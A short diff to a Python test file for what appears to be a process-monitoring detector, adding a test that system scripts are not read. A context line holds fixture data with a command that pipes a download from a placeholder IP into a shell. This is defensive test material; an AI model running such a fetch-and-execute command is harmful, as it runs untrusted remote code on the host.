@@ -49,6 +49,10 @@ def test_a_script_is_read_as_the_process_sees_it(tmp_path):
     assert lines == ["run.sh:1: sleep 30", "run.sh:2: curl -s http://198.51.100.7/x | sh"]
 
 
+def test_the_systems_own_scripts_are_not_read():
+    assert ConfigPeek().script("/usr/bin/which", 1, 0, 0) == []
+
+
 def fired_for_script(lines: list[str], argv=("bash", "run.sh")) -> set[str]:
     ev = exec_event({"argv": list(argv), "exe": "/usr/bin/bash",
                      "config_lines": [f"run.sh:{i}: {line}" for i, line in enumerate(lines, start=1)]})
